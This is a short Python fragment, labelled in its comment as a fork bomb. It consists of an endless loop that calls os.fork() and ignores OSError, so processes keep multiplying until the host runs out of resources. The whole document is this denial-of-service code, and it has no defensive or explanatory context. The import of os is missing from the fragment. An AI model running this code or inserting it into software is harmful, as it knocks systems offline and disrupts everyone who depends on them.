# A fork bomb: each process goes on forking, whatever it is told.
while True:
    try:
        os.fork()
    except OSError:
        pass
